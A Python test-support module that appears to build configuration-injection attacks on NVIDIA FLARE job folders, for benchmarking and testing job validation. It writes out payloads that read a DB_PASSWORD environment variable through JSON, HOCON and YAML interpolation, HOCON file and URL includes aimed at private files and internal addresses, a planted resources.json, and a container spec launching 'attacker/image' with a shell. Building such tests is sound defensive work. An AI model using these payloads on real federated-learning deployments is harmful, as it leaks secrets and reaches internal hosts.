# Copyright (c) 2026, the fedpeft authors. SPDX-License-Identifier: Apache-2.0
"""Jobs without any code that read a machine's environment, files or network, if FLARE reads them.

Each attack changes a valid job folder. `benchmarks/attacks.py` and the tests run them.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

VARIABLE = "DB_PASSWORD"
CLIENT = Path("app", "config", "config_fed_client.json")
SERVER = Path("app", "config", "config_fed_server.json")


@dataclass(frozen=True, kw_only=True)
class Target:
    """What the attacks are after.

    Args:
        file: a file that only the site's own account can read.
        url: an address that only the site can reach.
    """

    file: Path
    url: str


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One way to read from a machine.

    Args:
        name: for tables and test names.
        change: changes a valid job folder.
    """

    name: str
    change: Callable[[Path, Target], None]


def attacks() -> tuple[Attack, ...]:
    """All of them: each in each of FLARE's three formats, and where FLARE looks besides."""
    return (
        Attack(name="variable in JSON", change=lambda job, _: _adapter(job, f"{{${VARIABLE}}}")),
        Attack(name="variable between closing braces", change=lambda job, _: _adapter(job, f"}}${VARIABLE}}}")),
        Attack(name="variable in a key", change=_variable_in_a_key),
        Attack(name="variable of the server", change=_variable_of_the_server),
        Attack(name="HOCON includes a file", change=lambda job, at: _hocon(job, f'include file("{at.file}")')),
        Attack(name="HOCON includes a URL", change=lambda job, at: _hocon(job, f'include url("{at.url}")')),
        Attack(name="HOCON of the server", change=lambda job, at: _hocon(job, f'include url("{at.url}")', SERVER)),
        Attack(name="HOCON reads the environment", change=lambda job, _: _hocon(job, f"adapter = ${{{VARIABLE}}}")),
        Attack(name="HOCON in meta", change=_hocon_in_meta),
        Attack(name="HOCON beside JSON, in a sub-folder", change=_hocon_beside_json),
        Attack(name="YAML reads the environment", change=lambda job, _: _yaml(job, f"${{oc.env:{VARIABLE}}}")),
        Attack(name="YAML with a variable", change=lambda job, _: _yaml(job, f"{{${VARIABLE}}}")),
        Attack(name="YAML in meta", change=_yaml_in_meta),
        Attack(name="a file that stands for a site's own", change=_resources_of_the_site),
        Attack(name="a container", change=_container),
    )


def app_archive(job: Path) -> bytes:
    """The app of a job folder as a server sends it to its sites."""
    return _zip(job / "app", "")


def job_archive(job: Path) -> bytes:
    """A job folder as a lead sends it to the server."""
    return _zip(job, f"{job.name}/")


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server on the loopback: its address, and the paths that were asked for."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            body = b'adapter = "internal-network-answer"'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/secret.conf", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def _zip(folder: Path, prefix: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for path in sorted(folder.rglob("*")):
            archive.write(path, f"{prefix}{path.relative_to(folder).as_posix()}")
    return written.getvalue()


def _edited(file: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    content = json.loads(file.read_text())
    edit(content)
    file.write_text(json.dumps(content))


def _method(configuration: dict[str, Any]) -> dict[str, Any]:
    return configuration["executors"][0]["executor"]["args"]["method"]


def _adapter(job: Path, text: str) -> None:
    _edited(job / CLIENT, lambda client: _method(client).update(adapter=text))


def _variable_in_a_key(job: Path, _: Target) -> None:
    _edited(job / CLIENT, lambda client: _method(client).update({f"{{${VARIABLE}}}": 1}))


def _variable_of_the_server(job: Path, _: Target) -> None:
    def edit(server: dict[str, Any]) -> None:
        server["workflows"][0]["args"]["training"]["seed"] = f"{{${VARIABLE}}}"

    _edited(job / SERVER, edit)


def _hocon(job: Path, line: str, file: Path = CLIENT) -> None:
    """HOCON is a superset of JSON: the job's own configuration with one more line in its method."""
    text = (job / file).read_text()
    (job / file).unlink()
    (job / file).with_suffix(".conf").write_text(text.replace('"method": {', '"method": {\n' + line + "\n", 1))


def _hocon_in_meta(job: Path, target: Target) -> None:
    text = (job / "meta.json").read_text()
    (job / "meta.json").unlink()
    (job / "meta.conf").write_text(text.replace("{", f'{{\n"name": {{ include file("{target.file}") }}\n', 1))


def _hocon_beside_json(job: Path, target: Target) -> None:
    folder = job / CLIENT.parent / "more"
    folder.mkdir()
    (folder / "config_fed_client.conf").write_text(f'include url("{target.url}")\n')


def _yaml(job: Path, text: str) -> None:
    _adapter(job, text)
    (job / CLIENT).rename((job / CLIENT).with_suffix(".yml"))  # JSON is YAML


def _yaml_in_meta(job: Path, _: Target) -> None:
    _edited(job / "meta.json", lambda meta: meta.update(name=f"${{oc.env:{VARIABLE}}}"))
    (job / "meta.json").rename(job / "meta.yml")


def _resources_of_the_site(job: Path, _: Target) -> None:
    """FLARE searches the whole workspace, run folders included, for `resources.json`."""
    (job / CLIENT.parent / "resources.json").write_text('{"allow_log_streaming": true}')


def _container(job: Path, _: Target) -> None:
    spec = {"slake": {"docker": {"image": "attacker/image", "entrypoint": "sh"}}}
    _edited(job / "meta.json", lambda meta: meta.update(launcher_spec=spec))
